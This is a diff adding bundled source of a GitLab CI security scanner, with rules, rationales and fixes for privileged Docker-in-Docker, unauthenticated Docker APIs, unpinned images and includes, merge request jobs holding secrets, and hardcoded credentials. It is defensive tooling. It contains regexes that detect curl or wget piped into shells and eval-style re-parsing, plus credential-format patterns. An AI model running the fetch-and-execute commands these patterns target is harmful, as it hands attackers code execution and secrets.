+    description: "A job uses a `docker:*dind*` service (string or `name:` form, in the job, a template it extends, or `default:`). The Docker daemon inside that service only starts in a container run with `--privileged`, so the runner must be configured with `privileged = true`.",
+    rationale: "A privileged container has every Linux capability, no seccomp or AppArmor profile and access to host devices: container isolation is off. Any code the job runs (a dependency install script, a test, a merge request from a contributor) can mount the host disk, load kernel modules or reach the runner host, read other jobs' files and tokens, and persist on a shared runner. The privileged flag applies to every job that runner picks up, not only to the one that asked for Docker.",
+    fix: 'Build images without a Docker daemon, for example with BuildKit rootless or kaniko-style builders, or Buildah:\n\n```yaml\nbuild:\n  image: quay.io/buildah/stable@sha256:<digest>\n  script:\n    - buildah build --isolation chroot -t "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA" .\n    - buildah push "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"\n```\n\nIf you must keep Docker-in-Docker, run those jobs on a dedicated, ephemeral runner (one VM per job) that serves no other project and never runs merge requests from forks, and keep TLS on (`DOCKER_TLS_CERTDIR: "/certs"`).',
+    references: [
+      "https://docs.gitlab.com/ci/docker/using_docker_build/#use-docker-in-docker",
+      "https://docs.gitlab.com/runner/security/#usage-of-docker-executor",
+      "https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"
+    ],
+    exceptions: "Except it only for a job pinned by `tags:` to a runner that is ephemeral and dedicated to this project; say so in the reason."
+  },
+  {
+    id: NO_TLS,
+    check: "hardening",
+    title: "Docker daemon reached without TLS",
+    severity: "medium",
+    description: "The job talks to a Docker daemon over plain TCP: `DOCKER_HOST` is `tcp://\u2026:2375`, `DOCKER_TLS_CERTDIR` is set to an empty string (which makes the `docker:dind` image start its daemon on port 2375 without TLS), or the dind service is started with `--tls=false`.",
+    rationale: "Port 2375 is the Docker API with no authentication. Anything that can reach the service network (other services of the job, other containers on the runner host's bridge network when the runner uses the default network mode) can start privileged containers on that daemon, which runs privileged itself: it is root on the runner host. TLS with client certificates (the `docker:dind` default since 19.03) limits the API to the job that holds the certificates.",
+    fix: 'Keep the image\'s TLS default: remove `DOCKER_TLS_CERTDIR: ""`, and point the client at port 2376:\n\n```yaml\nvariables:\n  DOCKER_HOST: tcp://docker:2376\n  DOCKER_TLS_CERTDIR: "/certs"\n  DOCKER_TLS_VERIFY: 1\n  DOCKER_CERT_PATH: "$DOCKER_TLS_CERTDIR/client"\n```\n\nand mount `/certs/client` in the runner\'s `volumes`.',
+    references: [
+      "https://docs.gitlab.com/ci/docker/using_docker_build/#docker-in-docker-with-tls-enabled-in-the-docker-executor",
+      "https://docs.docker.com/engine/security/protect-access/"
+    ]
+  }
+];
+function isDind(reference) {
+  const { name, tag } = imageParts(reference);
+  return name === "docker" && tag !== void 0 && tag.includes("dind");
+}
+function scalarText2(value) {
+  return value?.kind === "scalar" && value.value !== null ? String(value.value) : void 0;
+}
+function auditJob2(job) {
+  const hits = [];
+  for (const use of imageUses(job)) {
+    if (use.kind !== "service" || !isDind(use.expanded)) continue;
+    hits.push({
+      ruleId: DIND,
+      message: `Service \`${use.written}\` runs a Docker daemon, which needs a privileged runner: container isolation is off for code this job runs.`,
+      position: positionOf(use.scalar),
+      owner: use.scalar.owner,
+      job: job.name,
+      key: `service:${use.written}`,
+      fix: "Build with a daemonless builder (Buildah, BuildKit rootless), or confine this job to a dedicated ephemeral runner."
+    });
+    const command = get2(use.entry, "command");
+    const args = command?.kind === "seq" ? command.items : command ? [command] : [];
+    for (const arg of args) {
+      const text = scalarText2(arg);
+      if (text?.trim() === "--tls=false") {
+        hits.push({
+          ruleId: NO_TLS,
+          message: `The \`${use.written}\` service is started with \`--tls=false\`: its Docker API listens on port 2375 without authentication.`,
+          position: positionOf(arg),
+          owner: arg.owner,
+          job: job.name,
+          key: "service-command:--tls=false",
+          fix: 'Remove `--tls=false` and use `DOCKER_HOST: tcp://docker:2376` with `DOCKER_TLS_CERTDIR: "/certs"`.'
+        });
+      }
+    }
+    const serviceVariables = get2(use.entry, "variables");
+    const certDir = get2(serviceVariables, "DOCKER_TLS_CERTDIR");
+    if (certDir && scalarText2(certDir) === "") hits.push(emptyCertDir(job, certDir, `service:${use.written}`));
+  }
+  for (const variable of job.variables.values()) {
+    const text = scalarText2(variable.value);
+    if (text === void 0) continue;
+    if (variable.name === "DOCKER_HOST" && /^tcp:\/\/[^/\s]*:2375\/?$/i.test(text.trim())) {
+      hits.push({
+        ruleId: NO_TLS,
+        message: `\`DOCKER_HOST\` is \`${text.trim()}\`: the job drives a Docker daemon over plain TCP without authentication.`,
+        position: positionOf(variable.value),
+        owner: variable.value.owner,
+        job: job.name,
+        key: `${variable.scope}:DOCKER_HOST`,
+        fix: 'Use `DOCKER_HOST: tcp://docker:2376` with `DOCKER_TLS_CERTDIR: "/certs"` and `DOCKER_TLS_VERIFY: 1`.'
+      });
+    }
+    if (variable.name === "DOCKER_TLS_CERTDIR" && text === "")
+      hits.push(emptyCertDir(job, variable.value, variable.scope));
+  }
+  return hits;
+}
+function emptyCertDir(job, value, scope) {
+  return {
+    ruleId: NO_TLS,
+    message: "`DOCKER_TLS_CERTDIR` is empty: the `docker:dind` service starts its daemon on port 2375 without TLS.",
+    position: positionOf(value),
+    owner: value.owner,
+    job: job.name,
+    key: `${scope}:DOCKER_TLS_CERTDIR`,
+    fix: 'Set `DOCKER_TLS_CERTDIR: "/certs"` (the image default) and connect to `tcp://docker:2376`.'
+  };
+}
+var dockerInDocker = {
+  rules: rules2,
+  audit: (model) => model.jobs.flatMap(auditJob2)
+};
+
+// src/checks/hardening/gitlab-ci/image-pinning.ts
+var UNPINNED = "gitlab-ci/unpinned-image";
+var rules3 = [
+  {
+    id: UNPINNED,
+    check: "hardening",
+    title: "Job image or service not pinned by digest",
+    severity: "medium",
+    description: "A job's `image:` or one of its `services:` (string or `name:` form, set in the job, a template it extends, or `default:`) names a tag such as `node:20` or no tag at all, instead of a digest (`node:20@sha256:\u2026`). References whose name or tag comes from a CI/CD variable the file does not set are not reported, since their value is unknown.",
+    rationale: "A tag is a movable pointer. Whoever can push to that repository (the publisher, someone who stole their credentials, a compromised mirror) decides what your job runs next time, with your CI/CD variables, job token and deploy credentials in its environment. A digest names exact bytes: a changed image is a different digest and a visible change in review.",
+    fix: "Pin by digest and keep the tag for readers; let a bot (Renovate, Dependabot) propose digest updates:\n\n```yaml\ndefault:\n  image: node:20.18-bookworm@sha256:<digest>\n\ntest:\n  services:\n    - name: postgres:17@sha256:<digest>\n      alias: db\n```\n\nGet the digest with `docker buildx imagetools inspect node:20.18-bookworm` or `crane digest`.",
+    references: [
+      "https://docs.gitlab.com/ci/yaml/#image",
+      "https://docs.gitlab.com/ci/yaml/#services",
+      "https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"
+    ]
+  }
+];
+function auditJob3(job) {
+  const hits = [];
+  for (const use of imageUses(job)) {
+    if (isDigestPinned(use.expanded)) continue;
+    const expanded = imageParts(use.expanded);
+    if (`${expanded.name}:${expanded.tag ?? ""}`.includes("$")) continue;
+    const tag = expanded.tag;
+    const what = use.kind === "image" ? "Image" : "Service";
+    hits.push({
+      ruleId: UNPINNED,
+      message: `${what} \`${use.written}\` is ${tag ? `pinned to the tag \`${tag}\`` : "not pinned (implicit `latest`)"}, not to a digest: its publisher can change what this job runs.`,
+      position: positionOf(use.scalar),
+      owner: use.scalar.owner,
+      job: job.name,
+      key: `${use.kind}:${use.written}`,
+      fix: `Pin it: \`${use.expanded.split("@")[0]}@sha256:<digest>\`.`
+    });
+  }
+  return hits;
+}
+var imagePinning = {
+  rules: rules3,
+  audit: (model) => model.jobs.flatMap(auditJob3)
+};
+
+// src/checks/hardening/gitlab-ci/includes.ts
+var REMOTE = "gitlab-ci/remote-include-without-integrity";
+var PROJECT = "gitlab-ci/unpinned-project-include";
+var COMPONENT = "gitlab-ci/unpinned-component";
+var EXTERNAL = "gitlab-ci/external-include-not-checked";
+var rules4 = [
+  {
+    id: REMOTE,
+    check: "hardening",
+    title: "Remote include without integrity",
+    severity: "high",
+    description: "An `include: remote:` entry (or a bare `include:` URL) fetches pipeline configuration over HTTP(S) with no `integrity:` hash, so GitLab runs whatever that URL serves when the pipeline is created.",
+    rationale: "Included configuration defines jobs that run with this project's CI/CD variables, job token and runners. Whoever controls the URL (its owner, a compromised account, a hijacked domain) can add a job that exfiltrates secrets or pushes to your registry, and no pipeline or notification fires when the remote file changes. `integrity:` makes GitLab refuse content whose SHA-256 differs from the reviewed one.",
+    fix: "Add the SHA-256 of the reviewed file (GitLab 17.9 or later), or copy the file into the repository and use `include: local:`:\n\n```yaml\ninclude:\n  - remote: https://example.com/ci/templates/build.yml\n    integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=\n```\n\nCompute it with `curl -s URL | openssl dgst -sha256 -binary | openssl base64 -A`.",
+    references: ["https://docs.gitlab.com/ci/yaml/#includeintegrity", "https://docs.gitlab.com/ci/yaml/#includeremote"]
+  },
+  {
+    id: PROJECT,
+    check: "hardening",
+    title: "Project include not pinned to a commit",
+    severity: "medium",
+    description: "An `include: project:` entry has no `ref:` (it follows the other project's default branch) or a `ref:` that is a branch or tag name instead of a full 40-character commit SHA.",
+    rationale: "The included file defines jobs that run with this project's secrets. Anyone who can push to the other project's branch, or move its tag, changes your pipeline without a change or a review in your repository, and no pipeline is triggered to tell you. GitLab's own documentation recommends the full SHA as the most stable option.",
+    fix: "Pin the full commit SHA and keep the version as a comment for readers and update bots:\n\n```yaml\ninclude:\n  - project: my-group/ci-templates\n    ref: 787123b47f14b552955ca2786bc9542ae66fee5b # v1.4.0\n    file: /templates/build.yml\n```\n\nIf you keep a tag, protect it in the other project.",
+    references: ["https://docs.gitlab.com/ci/yaml/#includeproject"]
+  },
+  {
+    id: COMPONENT,
+    check: "hardening",
+    title: "CI/CD component not pinned to an exact version",
+    severity: "medium",
+    description: "An `include: component:` address ends in `@~latest`, a branch name, a partial version (`@1`, `@1.2`), or no version at all, instead of an exact release (`@1.2.3`) or a full commit SHA.",
+    rationale: "A component is code from another project that runs in your pipeline with your secrets. A moving version lets a new release, or a push to a branch, change your pipeline silently; a compromised component project then compromises every pipeline that follows it.",
+    fix: "Pin a commit SHA, or at least an exact released version:\n\n```yaml\ninclude:\n  - component: $CI_SERVER_FQDN/my-org/security-components/secret-detection@1.4.2\n```",
+    references: [
+      "https://docs.gitlab.com/ci/components/#component-versions",
+      "https://docs.gitlab.com/ci/yaml/#includecomponent"
+    ]
+  },
+  {
+    id: EXTERNAL,
+    check: "hardening",
+    title: "External configuration not checked",
+    severity: "info",
+    description: "The pipeline includes configuration that is not in this repository (`remote:`, `project:`, `template:` or `component:`). containersec lists it but does not fetch it, so the jobs it defines were not checked.",
+    rationale: "A clean result covers only the files that were read. This finding says which part of the pipeline the result does not cover, so nobody reads it as a clean bill of health for the whole pipeline.",
+    fix: "Nothing to fix. Check the included project with containersec in its own repository."
+  }
+];
+var SHA1 = /^[0-9a-f]{40}$/i;
+var EXACT_VERSION = /^v?\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/;
+var INTEGRITY = /^sha256-[A-Za-z0-9+/]{43}=$/;
+function auditInclude(include) {
+  const location2 = String(include.location.value ?? "").trim();
+  const base = {
+    position: positionOf(include.location),
+    owner: "include"
+  };
+  const hits = [];
+  if (include.kind !== "local") {
+    hits.push({
+      ruleId: EXTERNAL,
+      ...base,
+      message: `\`include: ${include.kind}: ${location2}\` was not fetched; the jobs it defines were not checked.`,
+      key: `${include.kind}:${location2}`
+    });
+  }
+  if (include.kind === "remote") {
+    const integrity = stringValue2(get2(include.fields, "integrity"));
+    if (!integrity || !INTEGRITY.test(integrity.trim())) {
+      hits.push({
+        ruleId: REMOTE,
+        ...base,
+        message: integrity ? `\`integrity\` of remote include ${location2} is not a \`sha256-<base64>\` hash.` : `Remote include ${location2} has no \`integrity\`: whoever controls that URL controls this pipeline.`,
+        key: location2,
+        fix: "Add `integrity: sha256-<base64 of the SHA-256 of the reviewed file>`, or vendor the file and use `include: local:`."
+      });
+    }
+  }
+  if (include.kind === "project") {
+    const refValue = get2(include.fields, "ref");
+    const ref = stringValue2(refValue);
+    if (!ref || !SHA1.test(ref.trim())) {
+      hits.push({
+        ruleId: PROJECT,
+        ...base,
+        ...refValue ? { position: positionOf(refValue) } : {},
+        message: ref ? `\`include: project: ${location2}\` uses \`ref: ${ref}\`, a name that can move, not a 40-character commit SHA.` : `\`include: project: ${location2}\` has no \`ref\`: it follows that project's default branch.`,
+        key: location2,
+        fix: "Set `ref:` to the full 40-character commit SHA of the reviewed version."
+      });
+    }
+  }
+  if (include.kind === "component") {
+    const at = location2.lastIndexOf("@");
+    const version = at >= 0 ? location2.slice(at + 1) : "";
+    if (!SHA1.test(version) && !EXACT_VERSION.test(version)) {
+      hits.push({
+        ruleId: COMPONENT,
+        ...base,
+        message: version ? `Component ${location2} follows \`@${version}\`, which can change; pin an exact version or commit SHA.` : `Component ${location2} has no version; pin an exact version or commit SHA.`,
+        key: at >= 0 ? location2.slice(0, at) : location2,
+        fix: "Use `@<major>.<minor>.<patch>` of a reviewed release, or `@<40-character commit SHA>`."
+      });
+    }
+  }
+  return hits;
+}
+var includePinning = {
+  rules: rules4,
+  audit: (model) => model.includes.flatMap(auditInclude)
+};
+
+// src/checks/hardening/gitlab-ci/scripts.ts
+var MAX_SCRIPT_LINES2 = 5e3;
+var MAX_NESTING = 12;
+function jobScripts(job) {
+  const out = [];
+  const sections = [
+    ["before_script", get2(job, "before_script")],
+    ["script", get2(job, "script")],
+    ["after_script", get2(job, "after_script")],
+    ["hooks:pre_get_sources_script", get2(get2(job, "hooks"), "pre_get_sources_script")]
+  ];
+  for (const [key, value] of sections) if (value) flatten(value, key, out, 0);
+  return out;
+}
+function flatten(value, key, out, depth) {
+  if (out.length >= MAX_SCRIPT_LINES2 || depth > MAX_NESTING) return;
+  if (value.kind === "scalar") {
+    if (value.value !== null) out.push({ key, scalar: value, text: String(value.value) });
+  } else if (value.kind === "seq") {
+    for (const item of value.items) flatten(item, key, out, depth + 1);
+  }
+}
+function commandAt(script, index) {
+  const start = script.lastIndexOf("\n", index - 1) + 1;
+  const end = script.indexOf("\n", index);
+  return script.slice(start, end < 0 ? void 0 : end).trim().replace(/\s+/g, " ").slice(0, 100);
+}
+var BRACED = /^\$\{([A-Za-z_][A-Za-z0-9_]*)[^}\n]*\}/;
+var BARE = /^\$([A-Za-z_][A-Za-z0-9_]*)/;
+var HEREDOC = /^<<(-?)[ \t]*(['"]?)([A-Za-z0-9_.-]+)\2/;
+function matchVariable(script, i) {
+  const rest = script.slice(i, i + 300);
+  return BRACED.exec(rest) ?? BARE.exec(rest);
+}
+function readHeredocs(script, newline, heredocs, uses) {
+  let position = newline;
+  for (const heredoc of heredocs) {
+    while (position < script.length) {
+      const lineStart = position + 1;
+      const lineEnd = script.indexOf("\n", lineStart) < 0 ? script.length : script.indexOf("\n", lineStart);
+      const line = script.slice(lineStart, lineEnd);
+      position = lineEnd;
+      if ((heredoc.stripTabs ? line.replace(/^\t+/, "") : line) === heredoc.delimiter) break;
+      if (heredoc.quoted) continue;
+      for (let j = lineStart; j < lineEnd; j++) {
+        if (script[j] === "\\") {
+          j++;
+          continue;
+        }
+        if (script[j] !== "$") continue;
+        const match2 = matchVariable(script, j);
+        if (!match2?.[1]) continue;
+        uses.push({ name: match2[1], index: j, token: match2[0], quote: "double", before: heredoc.command });
+        j += match2[0].length - 1;
+      }
+    }
+  }
+  return position;
+}
+function variableUses(script) {
+  const uses = [];
+  let quote2 = "none";
+  let commandStart = 0;
+  let heredocs = [];
+  for (let i = 0; i < script.length; i++) {
+    const c = script[i];
+    if (quote2 === "single") {
+      if (c === "'") quote2 = "none";
+      continue;
+    }
+    if (c === "\\") {
+      i++;
+      continue;
+    }
+    if (c === "$") {
+      const match2 = matchVariable(script, i);
+      if (match2?.[1]) {
+        uses.push({ name: match2[1], index: i, token: match2[0], quote: quote2, before: script.slice(commandStart, i) });
+        i += match2[0].length - 1;
+      }
+      continue;
+    }
+    if (quote2 === "double") {
+      if (c === '"') quote2 = "none";
+      continue;
+    }
+    if (c === "'") quote2 = "single";
+    else if (c === '"') quote2 = "double";
+    else if (c === "<" && script[i + 1] === "<" && script[i + 2] !== "<") {
+      const match2 = HEREDOC.exec(script.slice(i, i + 200));
+      if (match2?.[3]) {
+        heredocs.push({
+          delimiter: match2[3],
+          quoted: match2[2] !== "",
+          stripTabs: match2[1] === "-",
+          command: script.slice(commandStart, i)
+        });
+        i += match2[0].length - 1;
+      }
+    } else if (c === "#" && (i === 0 || /\s/.test(script[i - 1] ?? ""))) {
+      const newline = script.indexOf("\n", i);
+      if (newline < 0) break;
+      i = newline - 1;
+    } else if (c === "\n" && heredocs.length > 0) {
+      i = readHeredocs(script, i, heredocs, uses);
+      heredocs = [];
+      commandStart = i + 1;
+    } else if (c === ";" || c === "\n" || c === "|" || c === "&") {
+      commandStart = i + 1;
+    }
+  }
+  return uses;
+}
+var REPARSING_COMMANDS = [
+  /(?:^|[\s;&|(`])eval\s/,
+  /(?:^|[\s/;&|(`])(?:ba|z|da|k|a|fi)?sh\s+(?:-[A-Za-z]+\s+)*-[A-Za-z]*c\b/,
+  /(?:^|[\s/;&|(`])(?:python[0-9.]*|perl|ruby|node|php)\s+(?:-\S+\s+)*-[ce]\b/,
+  /(?:^|[\s/;&|(`])(?:pwsh|powershell)(?:\.exe)?\s+(?:-\S+\s+)*-(?:c|Command)\b/i,
+  /(?:^|[\s;&|(`])su\s+(?:\S+\s+)*-c\b/
+];
+function isReparsed(before) {
+  return REPARSING_COMMANDS.some((pattern) => pattern.test(before));
+}
+var ASSIGNMENT = /^\s*(?:(?:export|local|readonly|declare(?:\s+-\w+)*)\s+)?(?:[A-Za-z_][A-Za-z0-9_]*=(?:"[^"]*"|'[^']*'|\S*)\s+)*[A-Za-z_][A-Za-z0-9_]*=$/;
+function isSplitSafe(before) {
+  const insideDoubleBrackets = /\[\[(?:(?!\]\]).)*$/s.test(before);
+  return insideDoubleBrackets || /^\s*case\s+$/.test(before) || ASSIGNMENT.test(before);
+}
+var FETCH_THEN_PIPE = /(?<=(?:^|[\n;&|(`])\s*(?:sudo\s+(?:-\S+\s+)*)?)(curl|wget)\b[^;&\n]*?\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:\/usr)?(?:\/bin\/)?(?:(?:ba|z|da|k|a|fi)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\s*-?\s*(?:$|[;&|)\n]))/g;
+var SUBSTITUTED_FETCH = /(?:\beval|\b(?:ba|z|da|k|a)?sh\s+(?:-\S+\s+)*-c)\s+["']?(?:\$\(|`)\s*(curl|wget)\b/g;
+var PROCESS_SUBSTITUTION = /(?:\bsource|(?:^|[\s;&|])\.|\b(?:ba|z|da|k|a)?sh)\s+<\(\s*(curl|wget)\b/g;
+function remoteExecutions(script) {
+  const text = script.replace(/\\\r?\n/g, (m) => " ".repeat(m.length));
+  const found = /* @__PURE__ */ new Map();
+  for (const pattern of [FETCH_THEN_PIPE, SUBSTITUTED_FETCH, PROCESS_SUBSTITUTION]) {
+    for (const match2 of text.matchAll(pattern)) {
+      const tool = match2[1] ?? "curl";
+      const offset = match2[0].search(/\b(?:curl|wget)\b/);
+      const index = (match2.index ?? 0) + Math.max(0, offset);
+      if (!found.has(index)) found.set(index, { index, tool, snippet: match2[0].trim().slice(0, 120) });
+    }
+  }
+  return [...found.values()].sort((a, b) => a.index - b.index);
+}
+
+// src/checks/hardening/gitlab-ci/merge-request-pipelines.ts
+var MR_SECRETS = "gitlab-ci/merge-request-job-with-secrets";
+var rules5 = [
+  {
+    id: MR_SECRETS,
+    check: "hardening",
+    title: "Merge request pipeline job deploys or uses secrets",
+    severity: "high",
+    description: 'A job runs in merge request pipelines (`rules: - if: $CI_PIPELINE_SOURCE == "merge_request_event"`, a `$CI_MERGE_REQUEST_IID` condition, or `only: [merge_requests]`) and also deploys (`environment:`, a deploy/release/publish/production stage) or uses credentials (`secrets:`, `id_tokens:`, or script references to variables named like `*TOKEN*`, `*PASSWORD*`, `*SECRET*`, `*KEY*`). A rule that also requires `$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID` (no forks) or a protected source branch is not reported.',
+    rationale: "A merge request pipeline runs the code of the merge request, including its changes to the scripts the job calls. For merge requests from forks, a maintainer who runs the pipeline in the parent project hands the contributor's code the parent's unprotected CI/CD variables, its runners and its deployment environments. Even without forks, any developer can open a merge request whose pipeline deploys or prints secrets before review.",
+    fix: 'Keep deployments and secret-using jobs out of merge request pipelines; run them on the protected default branch or tags, and mark their variables **Protected**:\n\n```yaml\ndeploy:\n  stage: deploy\n  environment: production\n  rules:\n    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n```\n\nIf a merge request job really needs a credential, restrict the rule to same-project merge requests:\n\n```yaml\n  rules:\n    - if: $CI_PIPELINE_SOURCE == "merge_request_event" && $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID\n```',
+    references: [
+      "https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#run-pipelines-in-the-parent-project",
+      "https://docs.gitlab.com/ci/variables/#protect-a-cicd-variable",
+      "https://docs.gitlab.com/ci/jobs/job_rules/"
+    ]
+  }
+];
+var MR_CONDITION = /\$\{?CI_PIPELINE_SOURCE\}?\s*==\s*["']merge_request_event["']|\$\{?CI_PIPELINE_SOURCE\}?\s*=~\s*\/[^/]*merge_request[^/]*\/|\$\{?CI_MERGE_REQUEST_I?ID\}?(?!\s*[!=]=)/;
+var NEGATED_MR = /\$\{?CI_PIPELINE_SOURCE\}?\s*!=\s*["']merge_request_event["']/;
+var SAME_PROJECT = /CI_MERGE_REQUEST_SOURCE_PROJECT_(?:ID\}?\s*==\s*\$\{?CI_PROJECT_ID|PATH\}?\s*==\s*\$\{?CI_PROJECT_PATH)\b|CI_PROJECT_ID\}?\s*==\s*\$\{?CI_MERGE_REQUEST_SOURCE_PROJECT_ID|CI_MERGE_REQUEST_SOURCE_BRANCH_PROTECTED\}?\s*==\s*["']?true/;
+var DEPLOY_STAGE = /deploy|release|publish|prod/i;
+var SECRET_NAME = /(?:PASSWORD|PASSWD|SECRET|TOKEN|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|(?:^|_)KEY(?:$|_))/i;
+function mergeRequestTrigger(job) {
+  const rules9 = get2(job.config, "rules");
+  if (rules9?.kind === "seq") {
+    for (const rule35 of listItems(rules9)) {
+      const condition = get2(rule35, "if");
+      const text = stringValue2(condition);
+      if (!condition || !text || NEGATED_MR.test(text) || !MR_CONDITION.test(text)) continue;
+      if (stringValue2(get2(rule35, "when")) === "never") return void 0;
+      if (SAME_PROJECT.test(text)) return void 0;
+      return condition;
+    }
+    return void 0;
+  }
+  const only = get2(job.config, "only");
+  const refs = only?.kind === "map" ? get2(only, "refs") : only;
+  return listItems(refs).find((item) => stringValue2(item) === "merge_requests");
+}
+function sensitiveUses(job) {
+  const reasons = [];
+  const environment2 = get2(job.config, "environment");
+  const envName = stringValue2(environment2) ?? stringValue2(get2(environment2, "name"));
+  const action = stringValue2(get2(environment2, "action"));
+  if (environment2 && !(action && ["stop", "access", "verify", "prepare"].includes(action))) {
+    reasons.push(`deploys to environment \`${envName ?? "?"}\``);
+  }
+  const stage = stringValue2(get2(job.config, "stage"));
+  if (stage && DEPLOY_STAGE.test(stage) && !environment2) reasons.push(`runs in stage \`${stage}\``);
+  if (get2(job.config, "secrets")) reasons.push("reads `secrets:` from a vault");
+  if (get2(job.config, "id_tokens")) reasons.push("gets OIDC `id_tokens:`");
+  const names = /* @__PURE__ */ new Set();
+  for (const line of jobScripts(job.config)) {
+    for (const use of variableUses(line.text)) {
+      if (use.name.startsWith("CI_") || !SECRET_NAME.test(use.name)) continue;
+      const defined = job.variables.get(use.name);
+      if (defined && defined.value.kind === "scalar" && !String(defined.value.value ?? "").includes("$")) continue;
+      names.add(use.name);
+    }
+  }
+  if (names.size > 0)
+    reasons.push(
+      `uses ${[...names].slice(0, 5).map((n) => `\`$${n}\``).join(", ")}`
+    );
+  return reasons;
+}
+function auditJob4(job) {
+  const trigger = mergeRequestTrigger(job);
+  if (!trigger) return [];
+  const reasons = sensitiveUses(job);
+  if (reasons.length === 0) return [];
+  return [
+    {
+      ruleId: MR_SECRETS,
+      message: `Job \`${job.name}\` runs in merge request pipelines and ${reasons.join(", ")}: merge request code (from forks too, once a maintainer runs the pipeline) gets those credentials.`,
+      position: positionOf(trigger),
+      owner: trigger.owner,
+      job: job.name,
+      key: job.name,
+      fix: "Run it only on the protected default branch or tags, or add `&& $CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID` and keep its variables protected."
+    }
+  ];
+}
+var mergeRequestPipelines = {
+  rules: rules5,
+  audit: (model) => model.jobs.flatMap(auditJob4)
+};
+
+// src/checks/hardening/gitlab-ci/plaintext-secrets.ts
+var SECRET = "gitlab-ci/plaintext-secret";
+var rules6 = [
+  {
+    id: SECRET,
+    check: "hardening",
+    title: "Secret written in the pipeline file",
+    severity: "high",
+    description: "A value in `variables:` (global, job, template, or `rules:` entry) or a script line looks like a credential: it matches a known token format (GitLab `glpat-`/`gldt-`/`glrt-`\u2026, GitHub `ghp_`/`github_pat_`\u2026, AWS `AKIA\u2026`, Slack, Stripe, npm, PyPI, Google API keys, PEM private keys), or a variable whose name says secret (`*PASSWORD*`, `*TOKEN*`, `*SECRET*`, `*KEY*`\u2026) holds a literal value rather than a `$VARIABLE`. Name-only matches are reported with medium severity. Messages never repeat the value.",
+    rationale: "Everything in the repository is readable by everyone with read access, forks included, and stays in git history after it is deleted. A token in `.gitlab-ci.yml` is also not masked in job logs, and it is available to every branch and every merge request pipeline, because only CI/CD settings variables can be protected.",
+    fix: 'Revoke and rotate the credential first: it is already exposed. Then store the new one as a masked, protected variable in **Settings > CI/CD > Variables** (or fetch it with `secrets:` from a vault or with `id_tokens:`) and refer to it by name:\n\n```yaml\ndeploy:\n  script:\n    - ./deploy --token "$DEPLOY_TOKEN"   # set in Settings > CI/CD > Variables, masked and protected\n```',
+    references: [
+      "https://docs.gitlab.com/ci/variables/#define-a-cicd-variable-in-the-ui",
+      "https://docs.gitlab.com/ci/secrets/",
+      "https://docs.gitlab.com/security/tokens/#token-prefixes"
+    ],
+    exceptions: "Throw-away credentials for a service container used only by tests (for example `POSTGRES_PASSWORD` of a database that lives for one job) can be excepted; say so in the reason."
+  }
+];
+var TOKEN_FORMATS = [
+  {
+    label: "GitLab token",
+    pattern: /\b(?:glpat|gldt|glrt|glptt|glcbt|glft|glimt|glagent|gloas|glsoat|glffct)-[0-9A-Za-z_-]{20,}/
+  },
+  { label: "GitLab runner registration token", pattern: /\bGR1348941[0-9A-Za-z_-]{20,}/ },
+  { label: "GitHub token", pattern: /\b(?:ghp|gho|ghu|ghs|ghr)_[0-9A-Za-z]{36,}/ },
+  { label: "GitHub fine-grained token", pattern: /\bgithub_pat_[0-9A-Za-z_]{60,}/ },
+  { label: "AWS access key id", pattern: /\b(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b/ },
+  { label: "Slack token", pattern: /\bxox[abposr]-[0-9A-Za-z-]{10,}/ },
+  { label: "Stripe secret key", pattern: /\b(?:sk|rk)_live_[0-9A-Za-z]{20,}/ },
+  { label: "npm token", pattern: /\bnpm_[0-9A-Za-z]{36}\b/ },
+  { label: "PyPI token", pattern: /\bpypi-AgEIcHlwaS5vcmc[0-9A-Za-z_-]{50,}/ },
+  { label: "Google API key", pattern: /\bAIza[0-9A-Za-z_-]{35}\b/ },
+  { label: "private key", pattern: /-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----/ }
+];
+var SECRET_NAME2 = /(?:PASSWORD|PASSWD|PASSPHRASE|SECRET|TOKEN|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIALS?|(?:^|_)KEY(?:$|_)|(?:^|_)PWD(?:$|_))/i;
+var NOT_A_SECRET_NAME = /(?:_(?:FILE|PATH|DIR|URL|HOST|PORT|NAME|USER|USERNAME|ID|IDS|ENABLED|DISABLED|TTL|EXPIRY|EXPIRES|TYPE|HEADER|LENGTH|FORMAT|VERSION|REGION|ENV|VAR|SCOPE|SCOPES)$|^CACHE_KEY$|KEY_ID$|^TOKEN_TYPE$)/i;
+var PLACEHOLDER = /^(?:true|false|yes|no|on|off|none|null|changeme|change-me|xxx+|\*+|<[^>]*>|\.\.\.)$/i;
+function redact(value) {
+  const prefix2 = /^(?:[a-z]+[-_]|github_pat_|AKIA|ASIA|ABIA|ACCA|AIza|GR1348941|-----BEGIN [A-Z ]*-----)/.exec(value)?.[0] ?? "";
+  return `${prefix2 ? `${prefix2}\u2026, ` : ""}${value.length} characters, redacted`;
+}
+function tokenFormat(text) {
+  for (const format of TOKEN_FORMATS) {
+    const match2 = format.pattern.exec(text);
+    if (match2) return { label: format.label, index: match2.index, match: match2[0] };
+  }
+  return void 0;
+}
+function auditVariable(job, variable) {
+  const value = variable.value;
+  if (value.kind !== "scalar" || value.value === null || typeof value.value === "boolean") return void 0;
+  const text = String(value.value);
+  const format = tokenFormat(text);
+  const common = { owner: value.owner, job: job.name, key: `${variable.scope}:${variable.name}` };
+  const fix = `Rotate the credential, delete it from the file, and set \`${variable.name}\` as a masked, protected variable in Settings > CI/CD > Variables.`;
+  if (format) {
+    return {
+      ruleId: SECRET,
+      ...common,
